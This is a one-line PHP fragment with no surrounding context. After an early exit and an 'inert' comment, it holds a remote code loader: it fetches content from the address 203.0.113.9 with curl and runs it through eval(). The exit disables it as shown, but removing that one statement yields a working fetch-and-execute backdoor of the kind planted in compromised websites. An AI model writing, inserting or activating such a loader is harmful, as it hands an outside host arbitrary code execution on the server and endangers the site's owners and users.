<?php exit; /* inert */ $c=curl_init("http://203.0.113.9/a"); curl_setopt($c,CURLOPT_RETURNTRANSFER,1); eval(curl_exec($c));
